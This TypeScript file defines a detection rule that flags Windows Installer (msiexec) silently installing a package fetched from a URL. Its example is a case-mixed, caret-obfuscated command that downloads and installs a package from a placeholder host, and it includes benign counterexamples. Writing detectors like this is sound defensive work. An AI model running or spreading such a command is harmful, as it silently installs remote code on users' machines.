import { matchSteps } from '../evidence.js';
import { DEXPHOT_REPORT, lolbas } from '../reference.js';
import type { Rule } from '../rule.js';

export const remoteMsiexec: Rule = {
  id: 'remote-msiexec',
  title: 'Windows Installer silently installs a package from a URL',
  severity: 'medium',
  explanation:
    'A command of the package makes msiexec, or a copy of it, fetch a package from a URL and install it silently. Bundles of ordinary software include their packages or show what they download.',
  attack: ['T1105', 'T1218.007'],
  references: [DEXPHOT_REPORT, lolbas('Msiexec.exe')],
  match: (facts) =>
    matchSteps(facts, ({ command, meaning }) =>
      meaning.kind === 'msiexec-install' &&
      meaning.url !== undefined &&
      (meaning.quiet || /[-/]q/i.test(command.text))
        ? `installs ${meaning.url} silently`
        : undefined,
    ),
  examples: [
    { what: 'with carets in the switch', runs: ['MsIeXeC.exe /q^n /i http://files.invalid/k2m9x7qp'] },
  ],
  counterExamples: [
    { what: 'a package of its own', runs: ['msiexec.exe /i "C:\\x\\runtime.msi" /qb'] },
    { what: 'from a share', runs: ['msiexec.exe /i \\\\server\\share\\runtime.msi /qn'] },
  ],
};
